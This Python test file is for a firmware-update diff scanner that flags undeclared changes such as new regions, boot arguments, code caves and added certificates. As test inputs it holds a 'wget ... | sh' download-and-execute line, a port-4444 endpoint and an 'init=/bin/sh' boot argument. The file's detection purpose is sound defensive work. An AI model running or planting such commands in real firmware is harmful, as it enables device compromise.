"""An update against its declaration: what was declared is quiet, anything else is named by its kind."""

import pytest
from tests import firmware_images as images

from mumetal.catalog.techniques import techniques
from mumetal.core.artefact import Artefact
from mumetal.core.errors import BadInputError
from mumetal.core.firmware import FirmwareImage
from mumetal.scan.firmware.diff import TECHNIQUES, DeclaredChange, changes, decode, findings
from mumetal.scan.firmware.inspect import inspect

NOW = 1_795_000_000 * 10**9


def look(data: bytes) -> FirmwareImage:
    return inspect(Artefact(uri="image", kind="firmware", data=data))


def rules(before: bytes, after: bytes, declared: DeclaredChange | None = None) -> list[str]:
    return [c.rule for c in changes(look(before), look(after), declared or DeclaredChange())]


@pytest.mark.parametrize("name", sorted(images.every()))
def test_an_image_does_not_differ_from_itself(name: str) -> None:
    data = images.every()[name]
    assert rules(data, data) == []


def test_new_frames_are_quiet_only_when_declared() -> None:
    before = images.bit(images.configuration(images.frames(seed=1)))
    after = images.bit(images.configuration(images.frames(seed=2)))
    assert rules(before, after) == ["regions"]
    assert rules(before, after, DeclaredChange(regions=("fdri0", "commands"))) == []


def test_another_part_is_a_change_of_identity() -> None:
    body = images.configuration(images.frames())
    assert "identity" in rules(images.bit(body), images.bit(body, part="xczu28dr-ffvg1517-2-e"))


def test_boot_arguments_padding_and_appendages_have_rules_of_their_own() -> None:
    tree = images.fdt({"chosen": {"bootargs": b"console=ttyS0\0"}})
    other = images.fdt({"chosen": {"bootargs": b"init=/bin/sh\0\0"}})
    assert "boot-arguments" in rules(tree, other)
    full = bytearray(images.volume())
    full[3_000] = 0
    assert "padding" in rules(images.volume(), bytes(full))
    assert "promise" in rules(images.elf(), images.elf(extra=b"x" * 40))


def test_the_version_is_the_declared_one() -> None:
    before, after = (b"U-Boot %s \0" % v + b"\x12\x99" * 100 for v in (b"2023.01", b"2025.01"))
    allowed = DeclaredChange(version="2025.01", regions=("*",))
    assert rules(before, after, allowed) == []
    assert rules(before, after, DeclaredChange(version="2026.01", regions=("*",))) == ["version"]


def test_findings_carry_place_and_digest() -> None:
    after = images.elf(extra=b"x" * 40)
    found = findings(look(images.elf()), look(after), DeclaredChange(), NOW, device="board1")
    assert {f.rule for f in found} >= {"scan.firmware.promise", "scan.firmware.regions"}
    assert all(f.device == "board1" and f.evidence[0].digest == look(after).sha256 for f in found)
    assert len({f.finding_id for f in found}) == len(found)


def test_declarations_are_read_strictly() -> None:
    assert decode(b'{"version": "2", "regions": ["fv0/*"]}').regions == ("fv0/*",)
    for bad in (b"{", b'{"verson": "2"}', b'{"regions": [""]}', b" " * (2 << 20)):
        with pytest.raises(BadInputError):
            decode(bad)


def test_findings_name_the_technique_they_are_a_trace_of() -> None:
    known = {t.technique_id for t in techniques()}
    after = look(images.bit(images.configuration(images.frames(seed=5), idcode=0x03727093), part="7z020clg400"))
    found = findings(look(images.every()["xilinx-bit"]), after, DeclaredChange(), NOW)
    named = {f.rule.rsplit(".", 1)[-1]: set(f.techniques) for f in found}
    assert named["identity"] == {"persistence.unauthorised_firmware"}
    assert named["regions"] == {"persistence.firmware_implant"}
    assert set().union(*named.values(), TECHNIQUES) <= known


def test_texts_have_rules_by_what_they_could_do() -> None:
    body = b"U-Boot 2023.01 \0" + b"\x17\x92" * 3000 + bytes(8192)

    def said(*texts: bytes, before: bytes = body) -> set[str]:
        return set(
            rules(
                before,
                before[:9000] + b"\0" + b"\0".join(texts) + b"\0" + before[9001 + sum(map(len, texts)) + len(texts) :],
            )
        )

    assert "shell" in said(b"/bin/sh -c wget -qO- http://203.0.113.7/p | sh &")
    assert "endpoints" in said(b"203.0.113.9:4444")
    assert "boot-arguments" in said(b"init=/bin/sh console=null")
    loader = said(b"tftpboot ${fdt_addr_r} board.dtb; bootm ${kernel_addr_r}", b"https://ipxe.org/wiki")
    assert {"commands", "addresses"} <= loader
    assert not loader & {"shell", "endpoints", "boot-arguments"}


def test_a_dense_piece_inside_filling_is_a_cave_and_what_only_moved_is_not() -> None:
    payload = bytes(range(1, 255)) * 2
    before = b"code" * 4000 + bytes(9000)
    after = before[:18_000] + payload + before[18_000 + len(payload) :]
    assert "cave" in rules(before, after)
    assert "cave" not in rules(after, b"more" * 5 + after), "the same piece, a little further on"
    page = before[:20_480] + payload + before[20_480 + len(payload) :]
    assert "cave" not in rules(before, page), "a linker puts parts on pages"


def test_a_first_certificate_is_not_one_more() -> None:
    before = b"\x17" * 9000
    one = before + b"-----BEGIN CERTIFICATE-----\n" + b"QUJD" * 20 + b"\n-----END CERTIFICATE-----\n"
    two = one + b"-----BEGIN CERTIFICATE-----\n" + b"REVG" * 20 + b"\n-----END CERTIFICATE-----\n"
    assert "first-key" in rules(before, one)
    assert "keys" in rules(one, two)
    assert "first-key" not in rules(one, two)
